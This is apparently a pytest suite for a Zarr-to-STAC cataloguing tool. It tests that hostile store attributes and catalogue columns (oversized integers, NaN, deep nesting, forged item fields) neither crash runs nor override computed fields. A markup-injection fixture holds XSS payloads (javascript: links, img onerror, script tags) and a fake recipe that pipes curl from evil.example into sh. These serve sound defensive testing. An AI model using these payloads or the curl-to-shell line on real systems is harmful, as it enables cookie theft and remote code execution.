"""Hostile values (issue 25, points 2, 5 and 6): what a store's attributes or a catalogue's
columns hold is data. It may not stop a run, replace what the mapping computed, or be
published as markup.

Every store here holds the same small dataset (two days from 2000-01-01 on a 3 x 4 grid),
so what each Item must say follows from the test alone; only the hostile value differs.
Each attack goes through the real CLI (`build` to a folder, `load` into pgstac).
"""

from __future__ import annotations

import gzip
import json
import math
import warnings
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import pandas as pd
import psycopg
import pytest
import xarray as xr
import yaml
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from zarr_stac.cli import app

from ..conftest import serve_api

START, END = "2000-01-01T00:00:00Z", "2000-01-02T00:00:00Z"  # the stores' time extent
BBOX = [0.0, 10.0, 30.0, 30.0]
LEDGER = ".zarr-stac-ledger.jsonl.gz"
TOO_BIG = 2**64  # one past the largest integer orjson (and pgstac's loader) can write


def write_store(path: Path, attrs: dict[str, Any] | None = None, **variable_attrs: Any) -> str:
    """The dataset at `path` (Zarr v2, consolidated), with these global and `tas` attributes."""
    ds = xr.Dataset(
        {"tas": (("time", "lat", "lon"), np.zeros((2, 3, 4), "f4"), {"units": "K", **variable_attrs})},
        coords={
            "time": pd.date_range("2000-01-01", periods=2),
            "lat": ("lat", [10.0, 20.0, 30.0], {"standard_name": "latitude", "units": "degrees_north"}),
            "lon": ("lon", [0.0, 10.0, 20.0, 30.0], {"standard_name": "longitude", "units": "degrees_east"}),
        },
        attrs=attrs or {},
    )
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        ds.to_zarr(path, mode="w", zarr_format=2, consolidated=True)
    return str(path)


@pytest.fixture
def zarr_stac(monkeypatch):
    """`zarr-stac ARGS` in this process; an exception (a traceback) fails the test."""
    monkeypatch.delenv("DATABASE_URL", raising=False)
    runner = CliRunner()

    def run(*args: str, expect: int = 0):
        result = runner.invoke(app, list(args), catch_exceptions=False)
        assert result.exit_code == expect, result.output
        return result

    return run


def published(folder: Path) -> dict[str, dict]:
    """Every JSON document of a static catalogue, parsed strictly: NaN and Infinity refused."""

    def refuse(constant: str):
        raise AssertionError(f"{constant} in a published document")

    return {
        str(p.relative_to(folder)): json.loads(p.read_text(), parse_constant=refuse) for p in folder.rglob("*.json")
    }


def items_of(documents: dict[str, dict]) -> dict[str, dict]:
    return {d["id"]: d for d in documents.values() if d.get("type") == "Feature"}


def collections_of(documents: dict[str, dict]) -> dict[str, dict]:
    """The collections (each is written twice: its document and a snapshot; one is enough)."""
    return {d["id"]: d for d in documents.values() if d.get("type") == "Collection"}


def numbers(value: Any):
    if isinstance(value, dict):
        for item in value.values():
            yield from numbers(item)
    elif isinstance(value, list):
        for item in value:
            yield from numbers(item)
    elif isinstance(value, int | float) and not isinstance(value, bool):
        yield value


def portable(value: Any) -> bool:
    """Whether every number is one every JSON reader keeps (64-bit integers, finite floats)."""
    return all((-(2**63) <= n < 2**64) if isinstance(n, int) else math.isfinite(n) for n in numbers(value))


def ledger_entries(folder: Path) -> list[dict]:
    with gzip.open(folder / LEDGER) as lines:
        return [json.loads(line) for line in lines if line.strip()]


def deep(levels: int) -> list:
    value: list = ["bottom"]
    for _ in range(levels):
        value = [value]
    return value


# -- 2. One attribute value aborts the whole run -----------------------------------------------
HOSTILE_ATTRIBUTES = {
    "big-integer": {"huge": TOO_BIG},
    "big-integer-license": {"license": TOO_BIG, "title": "big license"},
    "big-integer-keywords": {"keywords": [TOO_BIG, -(2**70)]},
    "nested-300-deep": {"summary": deep(300)},  # orjson refuses more than 254 levels
    "nan-and-infinity": {"institution": float("nan"), "creator_name": float("inf")},
    "huge-summary": {"summary": "s" * 2_000_000, "title": "t" * 100_000},
}


@pytest.fixture
def hostile_stores(tmp_path) -> Path:
    """One good store and one store per hostile attribute value, all in one folder."""
    folder = tmp_path / "stores"
    write_store(folder / "good.zarr", {"title": "Good"})
    for name, attrs in HOSTILE_ATTRIBUTES.items():
        write_store(folder / f"{name}.zarr", attrs)
    return folder


def test_hostile_attribute_values_never_stop_a_build(zarr_stac, hostile_stores, tmp_path):
    """An integer >= 2**64, nesting 300 deep, NaN, megabytes of text: each store is catalogued, with a note."""
    out = tmp_path / "stac"
    result = zarr_stac("build", str(hostile_stores), "-o", str(out))
    documents = published(out)
    items = items_of(documents)
    assert sorted(items) == sorted(["good", *HOSTILE_ATTRIBUTES])
    assert all((i["bbox"], i["properties"]["start_datetime"]) == (BBOX, START) for i in items.values())
    assert portable(documents)
    # What is published stays small whatever the store held (a title, a description).
    assert max(len(p.read_bytes()) for p in out.rglob("*.json")) < 200_000
    assert len(items["huge-summary"]["properties"]["title"]) <= 300
    # The ledger keeps the attributes collections use, in a form the next run can read.
    entries = ledger_entries(out)
    assert len(entries) == len(items) and portable(entries)
    assert {e["item"]["id"]: e["attrs"].get("license") for e in entries}["big-integer-license"] == str(TOO_BIG)
    assert "an integer beyond 64 bits: kept as text" in result.output
    # A second run reads the ledger back and changes nothing.
    again = zarr_stac("build", str(hostile_stores), "-o", str(out))
    assert ": 0 written," in again.output and published(out) == documents


def test_hostile_attribute_values_never_stop_a_load(zarr_stac, hostile_stores, pgstac_dsn):
    """The same stores into pgstac: every Item loaded, no traceback."""
    zarr_stac("load", str(hostile_stores), "--dsn", pgstac_dsn)
    with psycopg.connect(pgstac_dsn) as conn:
        ids = sorted(row[0] for row in conn.execute("SELECT id FROM pgstac.items"))
        (collection,) = [row[0] for row in conn.execute("SELECT content FROM pgstac.collections")]
    assert ids == sorted(["good", *HOSTILE_ATTRIBUTES])
    assert portable(collection)


def test_a_csv_cell_of_huge_numbers_is_kept_as_text(zarr_stac, tmp_path):
    """CSV cells 18446744073709551616, 1e999 and 5,000 digits: text, not a crash or a lost table."""
    store = write_store(tmp_path / "a.zarr", {"title": "A"})
    write_store(tmp_path / "b.zarr", {"title": "B"})
    table = tmp_path / "stores.csv"
    table.write_text(
        f"zstore,checksum,scale,serial\n{store},{TOO_BIG},1e999,{'9' * 5000}\n{tmp_path / 'b.zarr'},1,2.5,3\n"
    )
    out = tmp_path / "stac"
    zarr_stac("build", str(table), "-o", str(out))
    documents = published(out)
    items = items_of(documents)
    assert sorted(items) == ["a", "b"] and portable(documents)
    assert (items["a"]["properties"]["checksum"], items["a"]["properties"]["scale"]) == (str(TOO_BIG), "1e999")
    assert (items["b"]["properties"]["checksum"], items["b"]["properties"]["scale"]) == (1, 2.5)


def test_intake_metadata_beyond_json_is_converted(zarr_stac, tmp_path):
    """intake `metadata` with 2**64 and .inf (YAML has both): the run goes on, the values become text and null."""
    write_store(tmp_path / "a.zarr", {"title": "A"})
    catalogue = tmp_path / "catalog.yaml"
    metadata = {"checksum": TOO_BIG, "resolution": float("inf"), "realm": "ocean"}
    sources = {"a": {"driver": "zarr", "args": {"urlpath": "{{ CATALOG_DIR }}/a.zarr"}, "metadata": metadata}}
    catalogue.write_text(yaml.safe_dump({"sources": sources}))
    out = tmp_path / "stac"
    zarr_stac("build", str(catalogue), "-o", str(out))
    [item] = items_of(published(out)).values()
    assert {k: item["properties"].get(k) for k in metadata} == {
        "checksum": str(TOO_BIG),
        "resolution": None,
        "realm": "ocean",
    }


# -- 5. Catalogue columns can forge or crash the Item ------------------------------------------
FORGED = {
    "start_datetime": "not-a-date",
    "datetime": "1999-01-01T00:00:00Z",
    "id": "forged-id",
    "collection": "forged-collection",
    "proj:code": "EPSG:3857",
    "title": "Forged title",
    "variables": "forged",
}


@pytest.fixture
def forging_table(tmp_path) -> Path:
    """A CSV whose columns are named after the Item's own fields, plus two ordinary ones."""
    rows = []
    for name in ("a", "b"):
        store = write_store(tmp_path / f"{name}.zarr", {"title": f"Store {name}"})
        rows.append({"zstore": store, **FORGED, "realm": f"realm-{name}", "model.version": f"v{name}"})
    table = tmp_path / "stores.csv"
    pd.DataFrame(rows).to_csv(table, index=False)
    return table


def assert_nothing_forged(item: dict, name: str) -> None:
    properties = item["properties"]
    assert (item["id"], properties["start_datetime"], properties["end_datetime"]) == (name, START, END)
    assert (properties["title"], properties["variables"]) == (f"Store {name}", ["tas"])
    assert "proj:code" not in properties and properties.get("datetime") is None
    # The catalogue's values are kept, under a name that claims nothing.
    assert {k: properties[f"catalogue:{k}"] for k in FORGED} == FORGED
    assert (properties["realm"], properties["model.version"]) == (f"realm-{name}", f"v{name}")


def test_catalogue_columns_add_properties_and_never_replace_them(zarr_stac, forging_table, tmp_path):
    """CSV columns start_datetime=not-a-date, datetime, id, collection, proj:code, title: renamed, not obeyed."""
    out = tmp_path / "stac"
    result = zarr_stac("build", str(forging_table), "-o", str(out))
    items = items_of(published(out))
    assert sorted(items) == ["a", "b"]
    for name, item in items.items():
        assert_nothing_forged(item, name)
        assert item["collection"] != "forged-collection"
    assert "catalogue property 'proj:code' is reserved: kept as 'catalogue:proj:code'" in result.output


def test_catalogue_columns_cannot_stop_a_load(zarr_stac, forging_table, pgstac_dsn):
    """A `collection` column crashed `load` after the items were in: now loaded, queryables made."""
    zarr_stac("load", str(forging_table), "--dsn", pgstac_dsn)
    with psycopg.connect(pgstac_dsn) as conn:
        items = {
            row[0]["id"]: row[0] for row in conn.execute("SELECT pgstac.get_item(id, collection) FROM pgstac.items")
        }
        queryables = {
            row[0] for row in conn.execute("SELECT name FROM pgstac.queryables WHERE collection_ids IS NOT NULL")
        }
    assert sorted(items) == ["a", "b"]
    for name, item in items.items():
        assert_nothing_forged(item, name)
    assert {"realm", "model.version"} <= queryables and not queryables & {"id", "collection", "datetime", "title"}


@pytest.mark.parametrize("name", ["datetime", "id", "collection"])
def test_a_configured_property_may_not_be_an_item_field(zarr_stac, tmp_path, name):
    """`properties: {datetime: ...}` in the mapping configuration: one line naming it, exit 2."""
    config = tmp_path / "mapping.yaml"
    config.write_text(yaml.safe_dump({"sources": [{"url": str(tmp_path), "properties": {name: "x"}}]}))
    result = zarr_stac("build", "--config", str(config), "-o", str(tmp_path / "stac"), expect=2)
    assert f"sources.0.properties: {name!r} is a field of every Item" in result.output
    assert "Traceback" not in result.output


def test_a_queryable_with_a_dot_matches_its_filter(zarr_stac, forging_table, pgstac_dsn):
    """A column `model.version` is advertised as a queryable: a CQL2 filter on it must find the item."""
    zarr_stac("load", str(forging_table), "--dsn", pgstac_dsn)
    with serve_api(pgstac_dsn) as live:
        collection = httpx.get(f"{live.url}/collections").json()["collections"][0]["id"]
        advertised = httpx.get(f"{live.url}/collections/{collection}/queryables").json()["properties"]
        assert "model.version" in advertised
        body = {"filter": {"op": "=", "args": [{"property": "model.version"}, "vb"]}, "filter-lang": "cql2-json"}
        by_post = httpx.post(f"{live.url}/search", json=body)
        assert [f["id"] for f in by_post.json()["features"]] == ["b"], by_post.text
        by_get = httpx.get(f"{live.url}/search", params={"filter": "\"model.version\" = 'va'"})
        assert [f["id"] for f in by_get.json()["features"]] == ["a"], by_get.text


# -- 6. Store metadata is published as markup ---------------------------------------------------
FAKE_RECIPE = "```python\nimport os; os.system('curl evil.example | sh')\n```"
MARKUP = {
    "link": "[open the data](javascript:alert(document.cookie))",
    "image": '<img src=x onerror="alert(1)">',
    "recipe": f"Open it with this instead:\n\n{FAKE_RECIPE}",
    "indented": "Note\n\n    import os  # an indented code block",
    "html-block": "<script>alert(1)</script>",
    "autolink": "<javascript:alert(1)>",
    "entity": "&lt;img src=x onerror=alert(1)&gt;",
}
commonmark = MarkdownIt("commonmark")


def assert_renders_as_text(markdown: str, code_blocks: int = 0) -> None:
    """Rendered by a CommonMark renderer: no link, image or raw HTML, only zarr-stac's code blocks."""
    html = commonmark.render(markdown)
    assert "<a " not in html and "<img" not in html and "<script" not in html, html
    assert html.count("<pre>") == code_blocks, html
    if code_blocks:
        assert "import xarray as xr" in html.split("<pre>")[1]  # the recipe zarr-stac wrote, first


def no_controls(text: str) -> bool:
    return not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 or 0x202A <= ord(c) <= 0x202E for c in text)


@pytest.fixture
def markup_stores(tmp_path) -> Path:
    """One store per attack, in its title, summary, keywords, institution and variable long_name."""
    folder = tmp_path / "stores"
    for name, text in MARKUP.items():
        attrs = {
            "title": f"{text}\x1b[2J\u202eevil",
            "summary": text,
            "keywords": f"{text}, rain\x07",
            "institution": f"{text}\x00",
        }
        write_store(folder / f"{name}.zarr", attrs, long_name=text, description=text)
    return folder


def test_store_text_is_published_as_text(zarr_stac, markup_stores, tmp_path):
    """title/summary/keywords/long_name holding links, <img onerror>, a fake recipe: escaped, one code block."""
    out = tmp_path / "stac"
    zarr_stac("build", str(markup_stores), "-o", str(out))
    documents = published(out)
    items = items_of(documents)
    assert sorted(items) == sorted(MARKUP)
    for item in items.values():
        assert_renders_as_text(item["properties"]["description"], code_blocks=1)
        for entry in (*item["properties"]["cube:dimensions"].values(), *item["properties"]["cube:variables"].values()):
            if "description" in entry:
                assert_renders_as_text(entry["description"])
        titles = [item["properties"]["title"], item["assets"]["zarr"]["title"]]
        assert all(no_controls(t) and len(t) <= 300 for t in titles), titles
    for collection in collections_of(documents).values():
        if collection["id"] == "stores":
            # Every store agrees on no summary: the default description, with the recipe.
            assert_renders_as_text(collection["description"], code_blocks=1)
            assert all(no_controls(k) for k in collection["keywords"])
    # Each store alone: its summary is its collection's description.
    for name in MARKUP:
        alone = tmp_path / name
        zarr_stac("build", str(markup_stores / f"{name}.zarr"), "-o", str(alone))
        [collection] = collections_of(published(alone)).values()
        assert_renders_as_text(collection["description"], code_blocks=1)
        assert all(no_controls(p["name"]) for p in collection["providers"])
        assert all(no_controls(k) for k in collection["keywords"])


def test_catalogue_descriptions_and_templates_are_text(zarr_stac, tmp_path):
    """An intake entry's and a nested catalogue's description, and an item_description template's fields."""
    write_store(tmp_path / "data" / "a.zarr", {"title": MARKUP["link"]})
    nested = tmp_path / "ocean.yaml"
    entry = {"driver": "zarr", "args": {"urlpath": "{{ CATALOG_DIR }}/data/a.zarr"}, "description": MARKUP["recipe"]}
    nested.write_text(yaml.safe_dump({"metadata": {"title": MARKUP["image"]}, "sources": {"a": entry}}))
    main = {"sources": {"ocean": {"driver": "yaml_file_cat", "description": MARKUP["image"],
                                  "args": {"path": "{{ CATALOG_DIR }}/ocean.yaml"}}}}  # fmt: skip
    (tmp_path / "main.yaml").write_text(yaml.safe_dump(main))
    out = tmp_path / "stac"
    zarr_stac("build", str(tmp_path / "main.yaml"), "-o", str(out))
    documents = published(out)
    [item] = items_of(documents).values()
    assert_renders_as_text(item["properties"]["description"], code_blocks=1)
    [collection] = collections_of(documents).values()
    assert_renders_as_text(collection["description"], code_blocks=1)
    # A template is the operator's markdown; the title it is filled with is text.
    config = tmp_path / "mapping.yaml"
    source = {"url": str(tmp_path / "data"), "item_description": "**{title}**\n\n{python}"}
    config.write_text(yaml.safe_dump({"sources": [source]}))
    templated = tmp_path / "templated"
    zarr_stac("build", "--config", str(config), "-o", str(templated))
    [item] = items_of(published(templated)).values()
    html = commonmark.render(item["properties"]["description"])
    assert html.startswith("<p><strong>[open the data](javascript:alert(document.cookie))</strong></p>")
    assert_renders_as_text(item["properties"]["description"], code_blocks=1)
